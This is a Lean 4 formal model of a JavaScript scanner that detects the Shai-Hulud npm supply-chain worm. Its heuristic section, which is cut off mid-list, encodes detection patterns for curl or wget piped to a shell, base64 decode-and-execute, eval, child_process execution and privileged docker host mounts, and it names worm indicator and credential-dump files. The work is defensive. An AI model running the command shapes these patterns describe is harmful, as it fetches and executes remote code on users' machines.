import Mathlib

/-!
Verification model of `scripts/shai-hulud-scanner-enhanced.js`, the
Shai-Hulud supply-chain scanner.  The JavaScript source is shallowly
embedded: every function is translated to an executable Lean definition
over an explicit filesystem oracle (`FS`), with `JSON.parse` /
`JSON.stringify` and `crypto` SHA-256 hashing passed in as oracle
parameters (they are runtime primitives, not part of the repository).
Paths are modeled as already-normalized absolute strings, on which
`path.resolve` is the identity and `path.join a b` is `a ++ "/" ++ b`.
-/

namespace SH

/-! ## A small regular-expression engine

The scanner's heuristics are JavaScript `RegExp` literals.  None of them
use backreferences or lookaround, so `RegExp.prototype.test` (existence
of a match) is the classical regular-language substring test.  We model
it with Brzozowski derivatives over character predicates.  Bounded
quantifiers `{lo,hi}` get their own constructor. -/

inductive RE : Type
| emp : RE
| eps : RE
| cls : (Char → Bool) → RE
| cat : RE → RE → RE
| alt : RE → RE → RE
| star : RE → RE
| rep : RE → Nat → Nat → RE

/-- Does the regex accept the empty string? -/
def RE.nullable : RE → Bool
| .emp => false
| .eps => true
| .cls _ => false
| .cat a b => a.nullable && b.nullable
| .alt a b => a.nullable || b.nullable
| .star _ => true
| .rep a lo _ => lo == 0 || a.nullable

/-- Smart concatenation (keeps derivatives small). -/
def RE.cat2 : RE → RE → RE
| .emp, _ => .emp
| _, .emp => .emp
| .eps, b => b
| a, .eps => a
| a, b => .cat a b

/-- Smart alternation (keeps derivatives small). -/
def RE.alt2 : RE → RE → RE
| .emp, b => b
| a, .emp => a
| a, b => .alt a b

/-- Brzozowski derivative by one character. -/
def RE.deriv (c : Char) : RE → RE
| .emp => .emp
| .eps => .emp
| .cls p => if p c then .eps else .emp
| .cat a b =>
    if a.nullable then RE.alt2 (RE.cat2 (RE.deriv c a) b) (RE.deriv c b)
    else RE.cat2 (RE.deriv c a) b
| .alt a b => RE.alt2 (RE.deriv c a) (RE.deriv c b)
| .star a => RE.cat2 (RE.deriv c a) (.star a)
| .rep a lo hi =>
    if hi == 0 then .emp
    else RE.cat2 (RE.deriv c a) (.rep a (lo - 1) (hi - 1))

/-- Some prefix of `cs` matches `r`. -/
def matchesFrom : RE → List Char → Bool
| r, [] => r.nullable
| r, c :: cs => r.nullable || matchesFrom (RE.deriv c r) cs

/-- The whole of `cs` matches `r`. -/
def matchesExact : RE → List Char → Bool
| r, [] => r.nullable
| r, c :: cs => matchesExact (RE.deriv c r) cs

/-- Some substring (starting anywhere) matches `r`: unanchored `test`. -/
def searchAux : RE → List Char → Bool
| r, [] => r.nullable
| r, c :: cs => matchesFrom r (c :: cs) || searchAux r cs

/-- Some suffix of `cs` is entirely matched by `r`. -/
def searchToEnd : RE → List Char → Bool
| r, [] => r.nullable
| r, c :: cs => matchesExact r (c :: cs) || searchToEnd r cs

/-- JavaScript `\w` word characters `[A-Za-z0-9_]`. -/
def wordChar (c : Char) : Bool :=
  (('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') || c = '_')

/-- Leading word-boundary `\b` before a word-initial pattern: a match may
start at position `i` only when position `i-1` is absent or non-word. -/
def boundaryOk : Option Char → Bool
| none => true
| some c => !wordChar c

/-- Search for `r` at positions preceded by a word boundary (models a
leading `\b` when `r` starts with a word character). -/
def searchAfterBoundary : RE → Option Char → List Char → Bool
| r, prev, [] => boundaryOk prev && r.nullable
| r, prev, c :: cs =>
    (boundaryOk prev && matchesFrom r (c :: cs)) || searchAfterBoundary r (some c) cs

/-- Single literal character. -/
def chr (c : Char) : RE := .cls (fun d => d = c)

/-- Single literal character, case-insensitive (`/i` flag). -/
def chri (c : Char) : RE := .cls (fun d => d.toLower = c.toLower)

/-- Literal string. -/
def lit (s : String) : RE := (s.toList.map chr).foldr RE.cat .eps

/-- Literal string, case-insensitive (`/i` flag). -/
def liti (s : String) : RE := (s.toList.map chri).foldr RE.cat .eps

/-- Optional (`?`). -/
def opt (r : RE) : RE := .alt r .eps

/-- One or more (`+`). -/
def plus (r : RE) : RE := .cat r (.star r)

/-- JavaScript `\s` (ASCII subset; the scanner only meets ASCII commands). -/
def isWsJS (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\x0d' || c = '\x0b' || c = '\x0c'

/-- `\s` as a class. -/
def ws : RE := .cls isWsJS

/-- `\S` as a class. -/
def nws : RE := .cls (fun c => !isWsJS c)

/-- Negated class of one character. -/
def noC (c : Char) : RE := .cls (fun d => d ≠ c)

/-- Unanchored `RegExp.test` on a string. -/
def reTest (r : RE) (s : String) : Bool := searchAux r s.toList

/-- Start-anchored (`/^.../`) `RegExp.test` on a string. -/
def reTestStartA (r : RE) (s : String) : Bool := matchesFrom r s.toList

/-- Fully anchored (`/^...$/`) `RegExp.test` on a string. -/
def reTestExact (r : RE) (s : String) : Bool := matchesExact r s.toList

/-! ## JSON values

`JSON.parse` results.  Objects are association lists (the parser already
removed duplicate keys, later-wins, as `JSON.parse` does). -/

inductive Json : Type
| null : Json
| bool : Bool → Json
| num : Int → Json
| str : String → Json
| arr : List Json → Json
| obj : List (String × Json) → Json

/-- Property read `j[k]` on a parsed value (objects only; everything else
has no own string-keyed properties of interest). -/
def jsonField (j : Json) (k : String) : Option Json :=
  match j with
  | .obj kvs => (kvs.find? (fun kv => kv.1 = k)).map (fun kv => kv.2)
  | _ => none

/-- `Object.keys`.  Arrays expose their indices as keys, like in JS. -/
def jsonKeys : Json → List String
| .obj kvs => kvs.map (fun kv => kv.1)
| .arr xs => (List.range xs.length).map (fun n => toString n)
| _ => []

/-- JavaScript truthiness of a parsed JSON value. -/
def jsonTruthy : Json → Bool
| .null => false
| .bool b => b
| .num n => n ≠ 0
| .str s => s ≠ ""
| .arr _ => true
| .obj _ => true

/-- String rendering used when a non-string manifest field is interpolated
into an issue record. -/
def jsonDisplay : Json → String
| .null => "null"
| .bool b => if b then "true" else "false"
| .num n => toString n
| .str s => s
| .arr _ => "[object]"
| .obj _ => "[object]"

/-- Start-anchored test for patterns of the shape `^BASE(?:\s|$)`: the base
followed by whitespace, or the base as the entire input. -/
def reTestStartWsOrEnd (base : RE) (s : String) : Bool :=
  reTestStartA (.cat base ws) s || reTestExact base s

/-- Contiguous-sublist test on character lists. -/
def listHasInfix : List Char → List Char → Bool
| needle, [] => needle.isEmpty
| needle, c :: t => needle.isPrefixOf (c :: t) || listHasInfix needle t

/-- JavaScript `String.prototype.slice(0, n)` (by code units; characters
here), list-based for efficient evaluation. -/
def jsSlice (s : String) (n : Nat) : String := (s.toList.take n).asString

/-- Kernel-reducible `startsWith`. -/
def strStarts (s pre : String) : Bool := pre.toList.isPrefixOf s.toList

/-- Kernel-reducible `endsWith`. -/
def strEnds (s suf : String) : Bool := suf.toList.isSuffixOf s.toList

/-- Kernel-reducible character containment. -/
def strHasChar (s : String) (c : Char) : Bool := s.toList.contains c

/-- Kernel-reducible `toLowerCase`. -/
def strLower (s : String) : String := (s.toList.map Char.toLower).asString

/-- Kernel-reducible `trim` (both ends, JS whitespace). -/
def strTrim (s : String) : String :=
  (((s.toList.dropWhile isWsJS).reverse.dropWhile isWsJS).reverse).asString

/-- Helper for `strSplit`. -/
def splitCharAux (sep : Char) : List Char → List Char → List String
| [], acc => [acc.reverse.asString]
| c :: rest, acc =>
  if c = sep then acc.reverse.asString :: splitCharAux sep rest []
  else splitCharAux sep rest (c :: acc)

/-- Kernel-reducible `split(sep)` by a single character. -/
def strSplit (s : String) (sep : Char) : List String := splitCharAux sep s.toList []

/-- Kernel-reducible join with `/` separators. -/
def strJoinSlash : List String → String
| [] => ""
| [x] => x
| x :: rest => x ++ "/" ++ strJoinSlash rest

/-- Substring test (JavaScript `String.prototype.includes`). -/
def strIncludes (hay needle : String) : Bool :=
  listHasInfix needle.toList hay.toList

/-! ## Data model: issues, scan state, filesystem oracle -/

/-- One finding pushed onto `detectedIssues`.  Issues the source creates
without a `details` field are modeled with `details = ""`. -/
structure Issue where
  type : String
  package : String
  version : String
  location : String
  details : String
deriving DecidableEq, Repr

/-- The scanner's global mutable state (`detectedIssues`, `scanStats` and
the `isShuttingDown` flag), threaded explicitly.  `readdirLog` is proof
instrumentation only: it records every path passed to `readdirSync`
during traversal, so that theorems can speak about which directories had
their entries read.  It mirrors no source variable. -/
structure ScanState where
  issues : List Issue
  directoriesScanned : Nat
  packagesScanned : Nat
  filesChecked : Nat
  lockfilesChecked : Nat
  symlinksSkipped : Nat
  errorsEncountered : Nat
  shuttingDown : Bool
  readdirLog : List String
deriving DecidableEq, Repr

/-- `detectedIssues.push(i)`. -/
def pushIssue (i : Issue) (st : ScanState) : ScanState :=
  { st with issues := st.issues ++ [i] }

/-- Kind of a filesystem node as reported by `fs.Stats` / `fs.Dirent`. -/
inductive FKind : Type
| file : FKind
| dir : FKind
| symlink : FKind
deriving DecidableEq, Repr

/-- The fields of `fs.Stats` the scanner consumes. -/
structure Stat where
  kind : FKind
  size : Nat
  mtimeMs : Nat
deriving DecidableEq, Repr

/-- Filesystem oracle: the `fs` syscalls the scanner performs.  `.error c`
models the call throwing an exception whose `code` is `c`. -/
structure FS where
  lstatSync : String → Except String Stat
  statSync : String → Except String Stat
  readFileSync : String → Except String String
  realpathSync : String → Except String String
  readdirSync : String → Except String (List (String × FKind))
  existsSync : String → Bool

/-! ## CONFIG constants -/

def MAX_FILE_SIZE_BYTES : Nat := 50 * 1024 * 1024
def MAX_LOCKFILE_SIZE_BYTES : Nat := 100 * 1024 * 1024
def MAX_SCAN_DEPTH : Nat := 10
def DEFAULT_SCAN_DEPTH : Nat := 5
def MAX_PATH_LENGTH : Nat := 4096
def MAX_SYMLINK_DEPTH : Nat := 3
def CACHE_TIMEOUT_MS : Nat := 30 * 60 * 1000
def MAX_DIRECTORIES_SCANNED : Nat := 100000
def MAX_PACKAGES_SCANNED : Nat := 50000

/-! ## Path helpers (POSIX, on normalized absolute paths) -/

/-- `path.join a b` on normalized segments. -/
def pathJoin (a b : String) : String := a ++ "/" ++ b

/-- `path.basename`. -/
def pathBasename (p : String) : String :=
  ((strSplit p '/').getLast?).getD p

/-- `path.dirname`. -/
def pathDirname (p : String) : String :=
  let parts := strSplit p '/'
  if parts.length ≤ 2 then "/" else strJoinSlash parts.dropLast

/-! ## Security utilities -/

/-- `validatePath(inputPath, basePath)`: length bound, null-byte rejection
and optional base-directory containment.  `path.resolve` is the identity
in this model (all paths handled are normalized absolute strings). -/
def validatePath (inputPath : String) (basePath : Option String) : Option String :=
  if inputPath = "" then none
  else if inputPath.length > MAX_PATH_LENGTH then none
  else
    let normalized := inputPath
    if strHasChar normalized (Char.ofNat 0) then none
    else
      match basePath with
      | none => some normalized
      | some b =>
        let normalizedBase := b
        if strStarts normalized (normalizedBase ++ "/") || normalized = normalizedBase then
          some normalized
        else none

/-- Result of `checkSymlink`. -/
structure SymlinkResult where
  isSymlink : Bool
  realPath : Option String
  safe : Bool
deriving DecidableEq, Repr

/-- `checkSymlink(filePath, depth)`.  Any exception from `lstatSync` or
`realpathSync` is caught and yields `{isSymlink: false, realPath: null,
safe: false}`, exactly as the source's catch clause does. -/
def checkSymlink (fs : FS) (filePath : String) (depth : Nat) : SymlinkResult :=
  match fs.lstatSync filePath with
  | .error _ => ⟨false, none, false⟩
  | .ok stats =>
    if stats.kind ≠ .symlink then ⟨false, some filePath, true⟩
    else if depth ≥ MAX_SYMLINK_DEPTH then ⟨true, none, false⟩
    else
      match fs.realpathSync filePath with
      | .error _ => ⟨false, none, false⟩
      | .ok realPath => ⟨true, some realPath, true⟩

/-- Result of `safeReadFile`. -/
structure ReadResult where
  content : Option String
  error : Option String
  size : Nat
deriving DecidableEq, Repr

/-- `safeReadFile(filePath, maxSize)`.  File sizes are measured by
`String.length` of the content, consistently with the oracle. -/
def safeReadFile (fs : FS) (filePath : String) (maxSize : Nat) : ReadResult :=
  match fs.statSync filePath with
  | .error code => ⟨none, some code, 0⟩
  | .ok stats =>
    if stats.size > maxSize then ⟨none, some "FILE_TOO_LARGE", stats.size⟩
    else
      match fs.readFileSync filePath with
      | .error code => ⟨none, some code, 0⟩
      | .ok content => ⟨some content, none, stats.size⟩

/-- The control characters `sanitizeForLog` strips:
`[\x00-\x08\x0B\x0C\x0E-\x1F\x7F]`. -/
def isStrippedControl (c : Char) : Bool :=
  c.toNat ≤ 0x08 || c.toNat = 0x0b || c.toNat = 0x0c ||
  (0x0e ≤ c.toNat && c.toNat ≤ 0x1f) || c.toNat = 0x7f

/-- `sanitizeForLog(str, maxLength)`. -/
def sanitizeForLog (s : String) (maxLength : Nat) : String :=
  if s = "" then ""
  else ((s.toList.filter (fun c => !isStrippedControl c)).take maxLength).asString

/-! ## Cache management

`computeHash` (SHA-256 via `crypto`) is an oracle parameter `hash`;
`Date.now()` is the parameter `now`. -/

/-- `isCacheValid(cacheFile)`: the cache file exists and is younger than
the 30-minute TTL. -/
def isCacheValid (fs : FS) (now : Nat) (cacheFile : String) : Bool :=
  match validatePath cacheFile none with
  | none => false
  | some validated =>
    if !fs.existsSync validated then false
    else
      match fs.statSync validated with
      | .error _ => false
      | .ok stats => now - stats.mtimeMs < CACHE_TIMEOUT_MS

/-- `loadFromCache(cacheFile, type)`: `null` on any validation or read
failure (including the age-logging `statSync` call throwing). -/
def loadFromCache (fs : FS) (cacheFile : String) : Option String :=
  match validatePath cacheFile none with
  | none => none
  | some validated =>
    let r := safeReadFile fs validated MAX_FILE_SIZE_BYTES
    match r.error with
    | some _ => none
    | none =>
      match fs.statSync validated with
      | .error _ => none
      | .ok _ => r.content

/-- Override one file of the filesystem (the effect of `writeFileSync`). -/
def FS.withFile (fs : FS) (p content : String) (mtime : Nat) : FS :=
  { lstatSync := fun q => if q = p then .ok ⟨.file, content.length, mtime⟩ else fs.lstatSync q
    statSync := fun q => if q = p then .ok ⟨.file, content.length, mtime⟩ else fs.statSync q
    readFileSync := fun q => if q = p then .ok content else fs.readFileSync q
    realpathSync := fun q => if q = p then .ok p else fs.realpathSync q
    readdirSync := fs.readdirSync
    existsSync := fun q => q = p || fs.existsSync q }

/-- `saveToCache(cacheFile, content)` as a filesystem transformation.  The
write-to-temp-then-rename pair collapses to its net effect (no crash is
modeled); the integrity hash is written alongside.  Any validation
failure is caught and leaves the filesystem unchanged. -/
def saveToCache (fs : FS) (hash : String → String) (now : Nat)
    (cacheFile content : String) : FS :=
  match validatePath cacheFile none with
  | none => fs
  | some validated =>
    match validatePath (pathDirname validated) none with
    | none => fs
    | some _ =>
      (fs.withFile validated content now).withFile (validated ++ ".sha256") (hash content) now

/-- `verifyCacheIntegrity(cacheFile)`: trusts a cache with no `.sha256`
sidecar; otherwise recomputes and compares the digest. -/
def verifyCacheIntegrity (fs : FS) (hash : String → String) (cacheFile : String) : Bool :=
  let hashFile := cacheFile ++ ".sha256"
  if !fs.existsSync hashFile then true
  else
    match fs.readFileSync hashFile with
    | .error _ => false
    | .ok stored =>
      let storedHash := strTrim stored
      let r := safeReadFile fs cacheFile MAX_FILE_SIZE_BYTES
      match r.content with
      | none => false
      | some content =>
        if content = "" then false else hash content == storedHash

/-! ## Forensic rules and `verifySuspiciousFile` -/

/-- One entry of `FORENSIC_RULES`.  Regex fields are stored as their
`RegExp.test` functions. -/
structure ForensicRule where
  type : String
  checkContent : Bool
  isJson : Bool
  indicators : Option (List (String → Bool))
  safePatterns : Option (List (String → Bool))
  requiredKeys : List String
  safeKeys : Option (List String)

/-- A `CRITICAL` name-only rule (`checkContent: false`). -/
def nameOnlyRule : ForensicRule :=
  ⟨"CRITICAL", false, false, none, none, [], none⟩

/-- `bundle.js` indicators `[/setup_bun/i, /bun_environment/i,
/child_process/, /socket\.connect/]`. -/
def bundleIndicators : List (String → Bool) :=
  [ reTest (liti "setup_bun"),
    reTest (liti "bun_environment"),
    reTest (lit "child_process"),
    reTest (lit "socket.connect") ]

/-- `bundle.js` safe patterns `[/webpack/i, /react/i, /babel/i]`. -/
def bundleSafePatterns : List (String → Bool) :=
  [ reTest (liti "webpack"), reTest (liti "react"), reTest (liti "babel") ]

/-- `FORENSIC_RULES`, in source order. -/
def FORENSIC_RULES : List (String × ForensicRule) :=
  [ ("setup_bun.js", nameOnlyRule),
    ("bun_environment.js", nameOnlyRule),
    ("truffleSecrets.json", nameOnlyRule),
    ("actionsSecrets.json", nameOnlyRule),
    (".github/workflows/discussion.yaml", nameOnlyRule),
    (".github/workflows/discussion.yml", nameOnlyRule),
    ("bundle.js",
      ⟨"HIGH", true, false, some bundleIndicators, some bundleSafePatterns, [], none⟩),
    ("contents.json",
      ⟨"HIGH", true, true, none, none,
        ["aws", "key", "token", "secret", "password", "env"],
        some ["images", "info", "properties"]⟩),
    ("cloud.json",
      ⟨"HIGH", true, true, none, none,
        ["aws_access_key_id", "azure_client_id", "gcp_token"], none⟩),
    ("environment.json",
      ⟨"HIGH", true, true, none, none,
        ["PATH", "USER", "SHELL", "HOME", "npm_config_"], none⟩) ]

/-- Rule lookup: exact key first, then the case-insensitive map
`FORENSIC_RULES_KEYS_LOWER` (lower-cased key to original key). -/
def forensicLookup (fileName : String) : Option ForensicRule :=
  match FORENSIC_RULES.find? (fun kv => kv.1 = fileName) with
  | some kv => some kv.2
  | none =>
    match FORENSIC_RULES.find? (fun kv => strLower kv.1 = strLower fileName) with
    | some kv => some kv.2
    | none => none

/-- Result of `verifySuspiciousFile` (`severity` is absent on most
dismissals). -/
structure Verification where
  confirmed : Bool
  reason : String
  severity : Option String
deriving DecidableEq, Repr

/-- `verifySuspiciousFile(filePath, fileName)`.  `jsonParse` and
`jsonStringify` are the `JSON` runtime oracles. -/
def verifySuspiciousFile (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (filePath fileName : String) : Verification :=
  if filePath = "" || fileName = "" then ⟨false, "Invalid parameters", none⟩
  else
    match validatePath filePath none with
    | none => ⟨false, "Invalid file path", none⟩
    | some validatedPath =>
      match forensicLookup fileName with
      | none => ⟨false, "No rule found", none⟩
      | some rule =>
        if !rule.checkContent then ⟨true, "High confidence IOC", some rule.type⟩
        else
          let r := safeReadFile fs validatedPath (5 * 1024 * 1024)
          match r.content with
          | none => ⟨false, "Read error", none⟩
          | some content =>
            if content = "" || r.size = 0 then ⟨false, "Empty file", none⟩
            else if content.length > 10 * 1024 * 1024 then
              ⟨false, "File too large for content analysis", none⟩
            else if rule.isJson then
              if content.length > 5 * 1024 * 1024 then ⟨false, "JSON file too large", none⟩
              else
                match jsonParse content with
                | .error _ => ⟨false, "Invalid JSON", none⟩
                | .ok json =>
                  match json with
                  | .obj _ | .arr _ =>
                    let keys := jsonKeys json
                    if keys.length > 10000 then ⟨false, "JSON has too many keys", none⟩
                    else if (match rule.safeKeys with
                             | some sks => sks.any (fun sk => keys.contains sk)
                             | none => false) then
                      ⟨false, "Contains whitelisted JSON keys", none⟩
                    else
                      let hasSuspiciousKey := rule.requiredKeys.any (fun reqKey =>
                        if reqKey = "" then false
                        else if keys.any (fun k =>
                            k ≠ "" && strIncludes (strLower k) (strLower reqKey)) then true
                        else
                          let jsonStr := jsonStringify json
                          if jsonStr.length > 1024 * 1024 then false
                          else strIncludes jsonStr reqKey)
                      if hasSuspiciousKey then
                        ⟨true, "Contains suspicious JSON keys", some rule.type⟩
                      else ⟨false, "JSON structure benign", some rule.type⟩
                  | _ => ⟨false, "Invalid JSON structure", none⟩
            else
              match rule.indicators with
              | some indicators =>
                let contentToCheck :=
                  if content.length > 1024 * 1024 then jsSlice content (1024 * 1024) else content
                let matchesIndicator := indicators.any (fun t => t contentToCheck)
                let matchesSafe :=
                  match rule.safePatterns with
                  | some sps => sps.any (fun t => t contentToCheck)
                  | none => false
                if matchesIndicator && !matchesSafe then
                  ⟨true, "Matched malicious content signatures", some rule.type⟩
                else ⟨false, "Content did not match malware signatures", some rule.type⟩
              | none => ⟨false, "Inconclusive", none⟩

/-- Outcome of the cache-consultation stage of `fetchWithCache`:
either the cached payload is returned, or control proceeds to the
network/fallback stage (abstracted as `.network`). -/
inductive FetchOutcome : Type
| cached : String → FetchOutcome
| network : FetchOutcome
deriving DecidableEq, Repr

/-- The cache stage of `fetchWithCache(url, cacheFile, ...)`: steps 1 of
the source (cache validity, integrity, load, JS truthiness of the loaded
text).  Everything after it (URL validation, HTTPS GET, fallback) is
abstracted as the `.network` outcome. -/
def fetchWithCacheCacheStep (fs : FS) (hash : String → String) (now : Nat)
    (cacheFile : String) (forceNoCache : Bool) : FetchOutcome :=
  if !forceNoCache && isCacheValid fs now cacheFile then
    if verifyCacheIntegrity fs hash cacheFile then
      match loadFromCache fs cacheFile with
      | some cached => if cached = "" then .network else .cached cached
      | none => .network
    else .network
  else .network

/-! ## Script heuristic analyzer

All patterns of `SCRIPT_WHITELIST_REGEX`, `CRITICAL_PATTERNS` and
`WARNING_PATTERNS`, transliterated into the `RE` engine.  Apostrophe and
backtick characters are written via their code points to keep string
literals plain. -/

/-- The `'` character. -/
def apos : Char := Char.ofNat 39

/-- Quote class `["']`. -/
def qCls : RE := .cls (fun c => c = '"' || c = apos)

/-- `[^\s|]`. -/
def noWsPipe : RE := .cls (fun c => !isWsJS c && c ≠ '|')

/-- `(?:sh|bash|zsh)` under `/i`. -/
def shBashZsh : RE := .alt (liti "sh") (.alt (liti "bash") (liti "zsh"))

/-- `(?:sh|bash|chmod)` under `/i`. -/
def shBashChmod : RE := .alt (liti "sh") (.alt (liti "bash") (liti "chmod"))

/-- `(?:sh|bash)` under `/i`. -/
def shBash : RE := .alt (liti "sh") (liti "bash")

/-- `SCRIPT_WHITELIST` (exact-member set). -/
def SCRIPT_WHITELIST : List String :=
  [ "husky install", "husky", "is-ci || husky install",
    "ngcc", "ngcc --properties es2015 browser module main", "ivy-ngcc",
    "tsc", "tsc -p tsconfig.json", "tsc --build",
    "rimraf", "rimraf dist", "shx",
    "prebuild-install", "node-gyp rebuild", "node-pre-gyp install --fallback-to-build",
    "patch-package", "esbuild",
    "node scripts/postinstall.js", "node scripts/postinstall",
    "lerna bootstrap", "nx",
    "electron-builder install-app-deps",
    "exit 0", "true", "echo" ]

/-- `SCRIPT_WHITELIST_REGEX`, in source order (all start-anchored). -/
def SCRIPT_WHITELIST_REGEX : List (String → Bool) :=
  [ reTestStartA (.cat (lit "echo") ws),
    reTestStartA (.cat (lit "rimraf") ws),
    reTestStartA (.cat (lit "shx") ws),
    reTestStartWsOrEnd (lit "tsc"),
    reTestStartWsOrEnd (lit "ngcc"),
    reTestStartA (.cat (lit "node-gyp") ws),
    reTestStartA (lit "prebuild-install"),
    reTestStartWsOrEnd (lit "husky"),
    reTestStartA (.cat (lit "is-ci") ws),
    reTestStartA (.cat (lit "opencollective") (opt (lit "-postinstall"))),
    reTestStartA (lit "patch-package"),
    reTestExact (.cat (lit "node") (.cat (plus ws) (.cat (lit "scripts/postinstall") (opt (lit ".js"))))),
    reTestStartA (.cat (lit "electron-builder") (.cat (plus ws) (lit "install-app-deps"))),
    reTestStartA (.cat (lit "lerna") (.cat (plus ws) (lit "bootstrap"))),
    reTestStartA (.cat (.alt (lit "nx") (lit "turbo")) (.cat (plus ws) (lit "run"))),
    reTestStartWsOrEnd (lit "esbuild"),
    reTestStartWsOrEnd (.cat (lit "node-pre-gyp") (.cat (plus ws) (lit "install"))) ]

/-- One heuristic pattern with its description and indicator tag. -/
structure ScriptRule where
  test : String → Bool
  desc : String
  indicator : String

/-- `/curl\s+[^\s|]{1,500}\s*\|\s*(?:sh|bash|zsh)/i`. -/
def critCurlPipe : RE :=
  .cat (liti "curl") (.cat (plus ws) (.cat (.rep noWsPipe 1 500)
    (.cat (.star ws) (.cat (chr '|') (.cat (.star ws) shBashZsh)))))

/-- `/wget\s+[^\s|]{1,500}\s*\|\s*(?:sh|bash|zsh)/i`. -/
def critWgetPipe : RE :=
  .cat (liti "wget") (.cat (plus ws) (.cat (.rep noWsPipe 1 500)
    (.cat (.star ws) (.cat (chr '|') (.cat (.star ws) shBashZsh)))))

/-- `/curl\s+[^\s]{1,500}>\s*[^|&\s]+\s*&&\s*(?:sh|bash|chmod)/i`. -/
def critCurlRedir : RE :=
  .cat (liti "curl") (.cat (plus ws) (.cat (.rep nws 1 500) (.cat (chr '>')
    (.cat (.star ws) (.cat (plus (.cls (fun c => c ≠ '|' && c ≠ '&' && !isWsJS c)))
      (.cat (.star ws) (.cat (lit "&&") (.cat (.star ws) shBashChmod))))))))

/-- `/curl\s+[^\s]{0,200}githubusercontent\.com\/[^\s|]{1,300}\|\s*(?:sh|bash|zsh)/i`. -/
def critCurlGithub : RE :=
  .cat (liti "curl") (.cat (plus ws) (.cat (.rep nws 0 200)
    (.cat (liti "githubusercontent.com/") (.cat (.rep noWsPipe 1 300)
      (.cat (chr '|') (.cat (.star ws) shBashZsh))))))

/-- `/wget\s+[^\s]{0,200}raw\.githubusercontent\.com\/[^\s|]{1,300}\|\s*(?:sh|bash|zsh)/i`. -/
def critWgetGithub : RE :=
  .cat (liti "wget") (.cat (plus ws) (.cat (.rep nws 0 200)
    (.cat (liti "raw.githubusercontent.com/") (.cat (.rep noWsPipe 1 300)
      (.cat (chr '|') (.cat (.star ws) shBashZsh))))))

/-- `/\b(?:b64|base64)\b[^|]{0,100}\|\s*(?:sh|bash)/i`.  Both alternatives
end in the word character `4`, so the trailing `\b` forces the next
character to be non-word; it is either directly the `|`, or the first of
the `[^|]{0,100}` characters. -/
def critB64 : RE :=
  .cat (.alt (liti "b64") (liti "base64"))
    (.cat (.alt (.cat (.cls (fun c => !wordChar c && c ≠ '|')) (.rep (noC '|') 0 99)) .eps)
      (.cat (chr '|') (.cat (.star ws) shBash)))

/-- `/base64\s+(?:-d|--decode)/i`. -/
def critB64Decode : RE :=
  .cat (liti "base64") (.cat (plus ws) (.alt (liti "-d") (liti "--decode")))

/-- `/\beval\s*\(/` (after the leading boundary). -/
def critEval : RE := .cat (lit "eval") (.cat (.star ws) (chr '('))

/-- `/node\s+-e\s+["']require\s*\(\s*["']child_process["']\s*\)/`. -/
def critNodeE : RE :=
  .cat (lit "node") (.cat (plus ws) (.cat (lit "-e") (.cat (plus ws) (.cat qCls
    (.cat (lit "require") (.cat (.star ws) (.cat (chr '(') (.cat (.star ws)
      (.cat qCls (.cat (lit "child_process") (.cat qCls (.cat (.star ws) (chr ')')))))))))))))

/-- `/child_process[^)]{0,50}exec[^)]{0,50}\$\(/`. -/
def critChildExec : RE :=
  .cat (lit "child_process") (.cat (.rep (noC ')') 0 50) (.cat (lit "exec")
    (.cat (.rep (noC ')') 0 50) (lit "$("))))

/-- `/bash\s+-c\s+["'][^"']{0,200}curl/i`. -/
def critBashC : RE :=
  .cat (liti "bash") (.cat (plus ws) (.cat (liti "-c") (.cat (plus ws) (.cat qCls
    (.cat (.rep (.cls (fun c => c ≠ '"' && c ≠ apos)) 0 200) (liti "curl"))))))

/-- `/curl\s+[^\s]{1,300}-o\s+\S+\s*&&\s*(?:sh|bash|chmod)/i`. -/
def critCurlSave : RE :=
  .cat (liti "curl") (.cat (plus ws) (.cat (.rep nws 1 300) (.cat (liti "-o")
    (.cat (plus ws) (.cat (plus nws) (.cat (.star ws) (.cat (lit "&&")
      (.cat (.star ws) shBashChmod))))))))

/-- `/wget\s+[^\s]{1,300}-O\s+\S+\s*&&\s*(?:sh|bash|chmod)/i`. -/
def critWgetSave : RE :=
  .cat (liti "wget") (.cat (plus ws) (.cat (.rep nws 1 300) (.cat (liti "-O")
    (.cat (plus ws) (.cat (plus nws) (.cat (.star ws) (.cat (lit "&&")
      (.cat (.star ws) shBashChmod))))))))

/-- `/require\s*\(\s*["']child_process["']\s*\)\.\s*(?:exec|execSync|spawn|spawnSync)/i`. -/
def critRequireChild : RE :=
  .cat (liti "require") (.cat (.star ws) (.cat (chr '(') (.cat (.star ws) (.cat qCls
    (.cat (liti "child_process") (.cat qCls (.cat (.star ws) (.cat (chr ')')
      (.cat (chr '.') (.cat (.star ws)
        (.alt (liti "exec") (.alt (liti "execSync") (.alt (liti "spawn") (liti "spawnSync"))))))))))))))

/-- `/\b(?:execSync|spawnSync|execFileSync)\s*\(/` (after the boundary). -/
def critSyncExec : RE :=
  .cat (.alt (lit "execSync") (.alt (lit "spawnSync") (lit "execFileSync")))
    (.cat (.star ws) (chr '('))

/-- `/\.github\/workflows\/discussion\.ya?ml/i`. -/
def critWorkflow : RE :=
  .cat (liti ".github/workflows/discussion.y") (.cat (opt (chri 'a')) (liti "ml"))

/-- `/docker\s+run\s+[^\n]{0,200}--privileged/i`. -/
def critDocker : RE :=
  .cat (liti "docker") (.cat (plus ws) (.cat (liti "run") (.cat (plus ws)
    (.cat (.rep (noC '\n') 0 200) (lit "--privileged")))))

/-- Pattern `-v\s+\/:\/host\b` (flag `i`) without the trailing boundary. -/
def critHostMountBase : RE :=
  .cat (lit "-v") (.cat (plus ws) (.cat (lit "/:/") (liti "host")))

/-- `CRITICAL_PATTERNS`, in source order. -/
def CRITICAL_PATTERNS : List ScriptRule :=
  [ ⟨reTest critCurlPipe, "Curl piped to shell", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critWgetPipe, "Wget piped to shell", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critCurlRedir, "Curl download & exec", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critCurlGithub, "Pipe raw GitHub content to shell", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critWgetGithub, "Pipe raw GitHub content to shell", "REMOTE_CODE_EXEC"⟩,
    ⟨fun s => searchAfterBoundary critB64 none s.toList, "Decode then execute via shell", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critB64Decode, "Base64 decoding", "OBFUSCATION"⟩,
    ⟨fun s => searchAfterBoundary critEval none s.toList, "Eval statement", "CODE_INJECTION"⟩,
